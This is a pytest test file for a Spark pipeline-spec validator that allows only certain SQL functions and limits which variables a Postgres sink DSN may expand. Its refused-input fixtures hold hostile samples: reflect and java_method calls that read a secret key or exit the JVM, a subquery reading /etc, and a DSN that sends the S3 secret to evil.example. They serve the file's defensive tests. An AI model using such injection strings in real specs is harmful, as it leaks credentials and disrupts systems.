"""Spec expressions may call only Spark's allowed built-in functions and hold no subquery
(`pipeline_spec.expressions`): refused at validation, naming the field, and again in the driver
on Spark's own parse (tests/workers/runtime/test_runner.py)."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
import yaml

from pipeline_spec.expressions import ALLOWED, DENIED, ExpressionError, check
from pipeline_spec.fields import expand_sink_variables
from pipeline_spec.model import SpecError, parse_spec

EXAMPLES = Path(__file__).resolve().parents[2] / "docs" / "examples"

ALLOWED_EXPRESSIONS = [
    "upper(user) AS u",
    "amount * 2 AS a",
    "CAST(ts AS date)",
    "CAST(x AS DECIMAL(10, 2))",
    "date_trunc('hour', ts)",
    "transform(arr, x -> x + 1)",
    "x IN (1, 2) AND NOT (b < 1)",
    "CASE WHEN a > 1 THEN 'x' ELSE 'y' END",
    "`weird col` + 1",
    "window(ts, '10 seconds')",
    "exists(arr, x -> x > 1)",
    "struct(a, b).a",
    "ts + INTERVAL 1 HOUR",
    "extract(year FROM ts)",
    "trim(BOTH 'x' FROM s)",
    "*",
    "sha2(s, 256)",
    "'reflect(' || s",  # a string, not a call
    "x -- reflect(\n",  # a comment
    "user",
]
REFUSED = [
    ("reflect('java.lang.System', 'getenv', 'SPINDLE_S3_SECRET_KEY') AS leak", "'reflect'"),
    ("`reflect`('java.lang.System', 'getenv', 'X')", "'reflect'"),
    ('"reflect"(1)', "'reflect'"),
    ("REFLECT('a', 'b')", "'reflect'"),
    ("upper(java_method('java.lang.System', 'getenv', 'X'))", "'java_method'"),
    ("try_reflect('a', 'b')", "'try_reflect'"),
    ("xpath_string('<a/>', 'a')", "'xpath_string'"),
    ("input_file_name()", "'input_file_name'"),
    ("my_udf(x)", "'my_udf'"),
    ("spark_catalog.default.f(1)", "qualified"),
    ("(SELECT max(x) FROM parquet.`/etc`) AS x", "subqueries"),
    ("x IN (SELECT 1)", "subqueries"),
    ("'unterminated", "cannot read"),
]


@pytest.mark.parametrize("text", ALLOWED_EXPRESSIONS)
def test_ordinary_expressions_pass(text: str) -> None:
    check(text)


@pytest.mark.parametrize(("text", "why"), REFUSED)
def test_calls_outside_the_allow_list_are_refused(text: str, why: str) -> None:
    with pytest.raises(ExpressionError, match=why):
        check(text)


def test_the_allow_list_holds_no_denied_function() -> None:
    assert not ALLOWED & set(DENIED)
    assert {"reflect", "java_method", "try_reflect"} <= set(DENIED)
    assert {"upper", "date_trunc", "coalesce", "window", "cast"} <= ALLOWED


def _clicks() -> dict[str, Any]:
    doc = yaml.safe_load((EXAMPLES / "clicks-per-user.yaml").read_text())
    assert isinstance(doc, dict)
    return doc


def test_validation_names_the_field() -> None:
    doc = _clicks()
    doc["transform"]["select"] = ["user", "reflect('java.lang.System', 'getenv', 'X') AS x"]
    with pytest.raises(SpecError) as e:
        parse_spec(doc)
    assert [f for f, _ in e.value.errors] == ["transform.select.1"]
    doc = yaml.safe_load((EXAMPLES / "nexmark-q3.yaml").read_text())
    doc["state"][0]["right"]["where"] = "java_method('java.lang.System', 'exit', 1) = 0"
    with pytest.raises(SpecError) as e:
        parse_spec(doc)
    assert [f for f, _ in e.value.errors] == ["state.0.right.where"]


def test_a_postgres_dsn_may_name_sink_variables_only(monkeypatch: pytest.MonkeyPatch) -> None:
    doc = _clicks()
    sink = {"name": "pg", "kind": "postgres", "from": "per_user", "table": "t"}
    doc["sinks"] = [{**sink, "dsn": "postgresql://u:${SPINDLE_S3_SECRET_KEY}@evil.example/db"}]
    with pytest.raises(SpecError) as e:
        parse_spec(doc)
    assert [f for f, _ in e.value.errors] == ["sinks.0.dsn"]
    doc["sinks"] = [{**sink, "dsn": "postgresql://u:${SPINDLE_SINK_PG_PASSWORD}@db/x"}]
    parse_spec(doc)
    monkeypatch.setenv("SPINDLE_SINK_PG_PASSWORD", "pw")
    monkeypatch.setenv("SPINDLE_S3_SECRET_KEY", "s3cret")
    text = "x:${SPINDLE_SINK_PG_PASSWORD}@${SPINDLE_S3_SECRET_KEY}"
    assert expand_sink_variables(text) == "x:pw@"
